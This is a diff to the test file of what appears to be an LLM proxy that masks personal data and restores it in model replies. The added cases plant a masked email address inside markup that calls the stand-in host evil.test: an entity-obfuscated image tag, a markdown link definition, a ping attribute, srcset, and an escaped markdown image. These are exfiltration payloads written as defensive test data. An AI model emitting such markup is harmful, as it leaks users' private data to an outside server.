@@ -303,6 +303,25 @@ for name, text in {
     pieces = [delta(content=piece) for piece in ("See ", text[: len(text) // 2], text[len(text) // 2 :], " there.")]
     for form, asked, reply in (("whole", chat("hi"), json_reply(json.dumps(whole))), ("stream", chat("hi", stream=True), sse(*pieces, delta("stop"), "[DONE]"))):
         row(f"F8-{name}-{form}", f"Active content: {name}", "removed", {"status": [200], "client_lacks": ["evil.test"]}, {"policy": ACTIVE}, asked, reply=reply)  # fmt: skip
+RESTORE = {"guards": {"standard": {"pii": {"action": "restore"}, "output": None}}}
+MAIL = "frau.meier@example.org"
+for name, text in {
+    "image": "<img src=\"&#104;ttps&#58;&#47;&#47;evil.test&#47;{placeholder}\">",
+    "definition": "[x][1]\n\n[1]: https://evil.test/{placeholder}\n",
+    "ping": "<a href=/a ping=https://evil.test/{placeholder}>x</a>",
+    "srcset": "<img src=/a.png srcset='https://evil.test/{placeholder} 2x'>",
+    "image-of-markdown": "![x](https:\\/\\/evil.test/?d={placeholder})",
+    "plain": "It went to {placeholder}, I believe.",
+}.items():
+    want = {"status": [200], "client_has" if name == "plain" else "client_lacks": ["frau.meier"]}
+    whole = {"choices": [{"index": 0, "message": {"role": "assistant", "content": f"See: {text}"}, "finish_reason": "stop"}]}
+    before, found, after = text.partition("{placeholder}")
+    for form, asked, reply in (
+        ("whole", chat(f"Write to {MAIL} today."), json_reply(json.dumps(whole))),
+        ("stream", chat(f"Write to {MAIL} today.", stream=True), sse(*(delta(content=piece) for piece in ("See: ", before, found, after)), delta("stop"), "[DONE]")),
+    ):  # fmt: skip
+        title = f"A masked address in {name}" if name != "plain" else "A masked address in a sentence"
+        row(f"F8b-{name}-{form}", title, "given back in a sentence, never in an address", want, {"policy": RESTORE}, asked, reply=reply)
 row("F4b-images", "Pictures under `Images`, which Ollama reads as `images`", "refused", REFUSED, {"path": "/api/chat"},
     policy=OLLAMA | {"unscanned": {"default": "deny", "image": "deny"}},
     request={"model": "m", "messages": [{"role": "user", "content": "hi", "Images": ["iVBORw0KGgo="]}]})  # fmt: skip
